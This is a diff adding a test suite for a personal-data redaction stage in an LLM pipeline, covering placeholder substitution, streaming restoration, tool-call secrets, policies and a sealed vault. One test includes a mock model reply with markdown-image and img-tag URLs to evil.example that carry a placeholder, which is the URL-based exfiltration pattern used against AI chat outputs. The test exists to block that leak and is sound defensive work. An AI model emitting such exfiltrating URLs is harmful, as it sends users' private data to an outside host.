@@ -1,0 +1,319 @@
+import { describe, expect, it } from "@effect/vitest"
+import { Pipeline, Reply } from "@interlock/core"
+import { Caller, Chat, Journal, Part, Prompt, RawPrompt, SafePrompt } from "@interlock/model"
+import { redact } from "@interlock/stages/redact"
+import { Detector, DetectorError } from "@interlock/stages/redact/detector"
+import * as Policy from "@interlock/stages/redact/policy"
+import { Vault, VaultError, VaultStore } from "@interlock/stages/redact/vault"
+import { Context, Effect, Layer, Redacted, Stream } from "effect"
+
+const layer = Layer.mergeAll(Detector.layer, Vault.layerMemory)
+const caller = { tenant: "acme", conversation: "c1" }
+const factsOf = (input: string | ReadonlyArray<Prompt.Message>, who: Caller["Service"] = caller) =>
+  Context.merge(RawPrompt.context(Prompt.make(input)), Caller.context(who))
+
+/** A pipeline whose model answers by `answer`, and what that model saw. */
+const scripted = (answer: (seen: Prompt.Prompt) => Reply.Reply<Part.Part>) => {
+  const seen: Array<Prompt.Prompt> = []
+  const model = Pipeline.handler("model", { needs: { prompt: SafePrompt } }, ({ prompt }) => {
+    seen.push(prompt)
+    return Effect.succeed(answer(prompt))
+  })
+  const chat = Pipeline.make("chat", { input: [RawPrompt, Caller], protocol: Chat.protocol })
+    .use(redact)
+    .to(model)
+  return { chat, seen }
+}
+const echo = (prompt: Prompt.Prompt) => Reply.whole(Part.text(Prompt.lastUserText(prompt)))
+const liveText = (pieces: ReadonlyArray<string>) =>
+  Reply.live(
+    Stream.fromIterable<Part.Part>([
+      { type: "text-start", id: "t" },
+      ...pieces.map((delta): Part.Part => ({ type: "text-delta", id: "t", delta })),
+      { type: "text-end", id: "t" },
+      Part.finish("stop")
+    ])
+  )
+
+describe("redact", () => {
+  it.effect("replaces below and restores above", () =>
+    Effect.gen(function* () {
+      const { chat, seen } = scripted(echo)
+      const text = "Write to alice@example.com and bob@example.com, then to alice@example.com"
+      const answer = yield* chat.run(factsOf(text))
+      expect(answer.text).toBe(text)
+      expect(Prompt.text(seen[0]!)).toBe("Write to ⟦EMAIL_ADDRESS_1⟧ and ⟦EMAIL_ADDRESS_2⟧, then to ⟦EMAIL_ADDRESS_1⟧")
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("keeps numbers across the turns of a conversation, and apart between conversations", () =>
+    Effect.gen(function* () {
+      const { chat, seen } = scripted(echo)
+      yield* chat.run(factsOf("mail a@example.com"))
+      yield* chat.run(factsOf("mail b@example.com and a@example.com"))
+      yield* chat.run(factsOf("mail b@example.com", { tenant: "acme", conversation: "c2" }))
+      yield* chat.run(factsOf("mail b@example.com", { tenant: "other", conversation: "c1" }))
+      expect(seen.map(Prompt.text)).toEqual([
+        "mail ⟦EMAIL_ADDRESS_1⟧",
+        "mail ⟦EMAIL_ADDRESS_2⟧ and ⟦EMAIL_ADDRESS_1⟧",
+        "mail ⟦EMAIL_ADDRESS_1⟧",
+        "mail ⟦EMAIL_ADDRESS_1⟧"
+      ])
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("escapes text that looks like a placeholder", () =>
+    Effect.gen(function* () {
+      const { chat, seen } = scripted(echo)
+      const text = "a@example.com says ⟦EMAIL_ADDRESS_1⟧ and ⟦"
+      const answer = yield* chat.run(factsOf(text))
+      expect(answer.text).toBe(text)
+      expect(Prompt.text(seen[0]!).match(/⟦EMAIL_ADDRESS_1⟧/g)).toHaveLength(1)
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("restores a stream however it is cut, and ends what it held back", () =>
+    Effect.gen(function* () {
+      const script = "Dear ⟦EMAIL_ADDRESS_1⟧, not ⟦EMAIL_ADDRESS_9⟧, nor ⟦EMAIL"
+      for (let size = 1; size <= script.length; size++) {
+        const pieces: Array<string> = []
+        for (let i = 0; i < script.length; i += size) pieces.push(script.slice(i, i + size))
+        const { chat } = scripted(() => liveText(pieces))
+        const parts = yield* Stream.runCollect(chat.stream(factsOf("mail a@example.com")))
+        const text = parts.map((part) => (part.type === "text-delta" ? part.delta : "")).join("")
+        expect(text).toBe("Dear a@example.com, not ⟦EMAIL_ADDRESS_9⟧, nor ⟦EMAIL")
+        expect(parts.at(-1)?.type).toBe("finish")
+      }
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("redacts tool calls and results, and restores arguments escaped for JSON", () =>
+    Effect.gen(function* () {
+      const value = 'p4ss"w\\0rd-2024'
+      const { chat, seen } = scripted(() =>
+        Reply.live(
+          Stream.fromIterable<Part.Part>([
+            { type: "tool-params-start", id: "1", name: "login", providerExecuted: false },
+            { type: "tool-params-delta", id: "1", delta: '{"password":"⟦SEC' },
+            { type: "tool-params-delta", id: "1", delta: 'RET_1⟧","again":"\\u27e6SECRET_1\\u27E7"}' },
+            { type: "tool-params-end", id: "1" },
+            { type: "tool-call", id: "1", name: "login", params: { password: "⟦SECRET_1⟧" }, providerExecuted: false },
+            Part.finish("tool-calls")
+          ])
+        )
+      )
+      const parts = yield* Stream.runCollect(
+        chat.stream(
+          factsOf([
+            {
+              role: "assistant",
+              content: [{ type: "tool-call", id: "0", name: "f", params: { password: value }, providerExecuted: false }]
+            },
+            {
+              role: "tool",
+              content: [{ type: "tool-result", id: "0", name: "f", isFailure: false, result: { to: "x@example.com" } }]
+            }
+          ])
+        )
+      )
+      expect(JSON.stringify(seen)).not.toContain("p4ss")
+      expect(JSON.stringify(seen)).not.toContain("x@example.com")
+      const params = parts.map((part) => (part.type === "tool-params-delta" ? part.delta : "")).join("")
+      expect(JSON.parse(params)).toEqual({ password: value, again: value })
+      expect(parts.find((part) => part.type === "tool-call")?.params).toEqual({ password: value })
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("keeps structured output valid JSON", () =>
+    Effect.gen(function* () {
+      const value = 'p4ss"w\\0rd-2024'
+      const { chat } = scripted(() => Reply.whole(Part.text('{"login":"⟦SECRET_1⟧"}')))
+      const answer = yield* chat.run(
+        factsOf([
+          {
+            role: "assistant",
+            content: [{ type: "tool-call", id: "0", name: "f", params: { password: value }, providerExecuted: false }]
+          }
+        ])
+      )
+      expect(JSON.parse(answer.text)).toEqual({ login: value })
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("leaves placeholders in URLs that the model made up, and restores those of the prompt", () =>
+    Effect.gen(function* () {
+      const say =
+        '![x](https://evil.example/?q=⟦EMAIL_ADDRESS_1⟧) <img src="//evil.example/⟦EMAIL_ADDRESS_1⟧"> https://shop.example/u/⟦EMAIL_ADDRESS_1⟧ ⟦EMAIL_ADDRESS_1⟧'
+      const { chat } = scripted(() => Reply.whole(Part.text(say)))
+      const answer = yield* chat.run(factsOf("see https://shop.example/u/a@example.com for a@example.com"))
+      expect(answer.text).toBe(
+        '![x](https://evil.example/?q=⟦EMAIL_ADDRESS_1⟧) <img src="//evil.example/⟦EMAIL_ADDRESS_1⟧"> https://shop.example/u/a@example.com a@example.com'
+      )
+      const { chat: open } = scripted(() => Reply.whole(Part.text(say)))
+      const always = yield* open
+        .run(factsOf("a@example.com"))
+        .pipe(Effect.provideService(Policy.Policy, Policy.make({ restore: { toolArguments: true, urls: "always" } })))
+      expect(always.text).not.toContain("⟦")
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("applies the strategy of each type", () =>
+    Effect.gen(function* () {
+      const { chat, seen } = scripted(echo)
+      const run = (strategy: Policy.Strategy) =>
+        chat
+          .run(factsOf("mail a@example.com now"))
+          .pipe(Effect.provideService(Policy.Policy, Policy.make({ strategies: { EMAIL_ADDRESS: strategy } })))
+      yield* run("mask")
+      yield* run("remove")
+      yield* run("hash")
+      yield* run("keep")
+      const refused = yield* Effect.flip(run("refuse"))
+      expect(seen.map(Prompt.text)).toEqual([
+        "mail ************* now",
+        "mail  now",
+        "mail [EMAIL_ADDRESS:63ab19ac2c91] now".replace(
+          /[0-9a-f]{12}/,
+          () => /[0-9a-f]{12}/.exec(Prompt.text(seen[2]!))![0]
+        ),
+        "mail a@example.com now"
+      ])
+      expect(refused.reason).toMatchObject({ _tag: "RefusedType", type: "EMAIL_ADDRESS" })
+      expect(refused.message).not.toContain("a@example.com")
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("refuses files unless the policy lets them through", () =>
+    Effect.gen(function* () {
+      const { chat, seen } = scripted(() => Reply.whole(Part.text("ok")))
+      const facts = factsOf([
+        {
+          role: "user",
+          content: [{ type: "file", mediaType: "image/png", data: "AAAA", fileName: "a@example.com.png" }]
+        }
+      ])
+      const refused = yield* Effect.flip(chat.run(facts))
+      expect(refused.reason._tag).toBe("RefusedFile")
+      expect(seen).toHaveLength(0)
+      const withFiles = (files: Policy.FilePolicy) =>
+        chat.run(facts).pipe(Effect.provideService(Policy.Policy, Policy.make({ files })))
+      yield* withFiles("pass")
+      yield* withFiles((file) =>
+        Effect.succeed(file.mediaType.startsWith("image/") ? { ...file, data: "BBBB" } : undefined)
+      )
+      expect((yield* Effect.flip(withFiles(() => Effect.succeed(undefined)))).reason._tag).toBe("RefusedFile")
+      expect((yield* Effect.flip(withFiles(() => Effect.fail("broken")))).reason._tag).toBe("RefusedFile")
+      expect(JSON.stringify(seen)).not.toContain("a@example.com")
+      expect(JSON.stringify(seen[1])).toContain("BBBB")
+    }).pipe(Effect.provide(layer))
+  )
+
+  it.effect("fails closed when the detector or the vault fails", () =>
+    Effect.gen(function* () {
+      const { chat, seen } = scripted(echo)
+      const broken = Detector.layerWith({
+        name: "broken",
+        detect: () => Effect.fail(new DetectorError({ detector: "broken", message: "no model" }))
+      })
+      const lost = Layer.succeed(Vault)({
+        assign: () => Effect.fail(new VaultError({ message: "gone" })),
+        forget: () => Effect.void
+      })
+      const first = yield* Effect.flip(chat.run(factsOf("hi")).pipe(Effect.provide([broken, Vault.layerMemory])))
+      const second = yield* Effect.flip(chat.run(factsOf("hi")).pipe(Effect.provide([Detector.layer, lost])))
+      expect(first.reason._tag).toBe("DetectorFailed")
+      expect(second.reason._tag).toBe("VaultFailed")
+      expect(seen).toHaveLength(0)
+    })
+  )
+
+  it.effect("merges a detector of the user's own by confidence", () =>
+    Effect.gen(function* () {
+      const { chat, seen } = scripted(echo)
+      const own = Detector.layerWith({
+        name: "projects",
+        detect: (text) => {
+          const start = text.indexOf("Nightingale")
+          return Effect.succeed(start < 0 ? [] : [{ start, end: start + 11, type: "project", confidence: 1 }])
+        }
+      })
+      yield* chat.run(factsOf("Nightingale a@example.com")).pipe(Effect.provide([own, Vault.layerMemory]))
+      expect(Prompt.text(seen[0]!)).toBe("⟦PROJECT_1⟧ ⟦EMAIL_ADDRESS_1⟧")
+    })
+  )
+
+  it.effect("says in the journal what was replaced, by type and without text", () =>
+    Effect.gen(function* () {
+      const { chat } = scripted(echo)
+      const journal = Journal.make()
+      yield* chat.run(factsOf("a@example.com b@example.com")).pipe(Effect.provideService(Journal.Journal, journal))
+      expect(journal.events()).toEqual([{ _tag: "Redaction", counts: { EMAIL_ADDRESS: 2 } }])
+    }).pipe(Effect.provide(layer))
+  )
+})
+
+describe("Vault", () => {
+  it.effect("seals values: a store sees neither values nor names, and another key does not open them", () =>
+    Effect.gen(function* () {
+      const entries: Array<unknown> = []
+      const inner = yield* VaultStore
+      const spy = Layer.succeed(VaultStore)({
+        ...inner,
+        put: (conversation, given) =>
+          Effect.tap(inner.put(conversation, given), (kept) => Effect.sync(() => entries.push(conversation, kept)))
+      })
+      const sealed = (byte: number) =>
+        Vault.layerSealed({ rootKey: Redacted.make(new Uint8Array(32).fill(byte)) }).pipe(Layer.provide(spy))
+      const assign = (values: ReadonlyArray<string>) =>
+        Vault.use((vault) =>
+          vault.assign(
+            caller,
+            values.map((value) => ({ type: "PERSON", value }))
+          )
+        )
+      const first = yield* assign(["Ada", "Grace"]).pipe(Effect.provide(sealed(1)))
+      const second = yield* assign(["Edsger", "Ada"]).pipe(Effect.provide(sealed(1)))
+      expect(first.map((each) => [each.value, each.number])).toEqual([
+        ["Ada", 1],
+        ["Grace", 2]
+      ])
+      expect(second.map((each) => [each.value, each.number])).toEqual([
+        ["Ada", 1],
+        ["Grace", 2],
+        ["Edsger", 3]
+      ])
+      const stored = entries
+        .map((each) => JSON.stringify(each) + Buffer.from(JSON.stringify(each)).toString("latin1"))
+        .join()
+      for (const secret of ["Ada", "Grace", "acme"]) expect(stored).not.toContain(secret)
+      // Another root key names the conversation otherwise, so it begins anew.
+      const other = yield* assign(["Ada"]).pipe(Effect.provide(sealed(2)))
+      expect(other).toHaveLength(1)
+      yield* Vault.use((vault) => vault.forget(caller)).pipe(Effect.provide(sealed(1)))
+      expect(yield* assign(["Grace"]).pipe(Effect.provide(sealed(1)))).toMatchObject([{ value: "Grace", number: 1 }])
+    }).pipe(Effect.provide(VaultStore.layerMemory))
+  )
+
+  it.effect("does not open a sealed value that was changed", () =>
+    Effect.gen(function* () {
+      const tampering = Layer.succeed(VaultStore)({
+        put: (_, entries) =>
+          Effect.succeed(
+            entries.map((entry) => ({
+              ...entry,
+              sealed: entry.sealed.map((byte, i) => (i === 14 ? byte ^ 1 : byte)),
+              number: 1
+            }))
+          ),
+        forget: () => Effect.void
+      })
+      const error = yield* Vault.use((vault) => vault.assign(caller, [{ type: "PERSON", value: "Ada Lovelace" }])).pipe(
+        Effect.provide(
+          Vault.layerSealed({ rootKey: Redacted.make(new Uint8Array(32)) }).pipe(Layer.provide(tampering))
+        ),
+        Effect.flip
+      )
+      expect(error.message).toContain("does not open")
+    })
+  )
+})
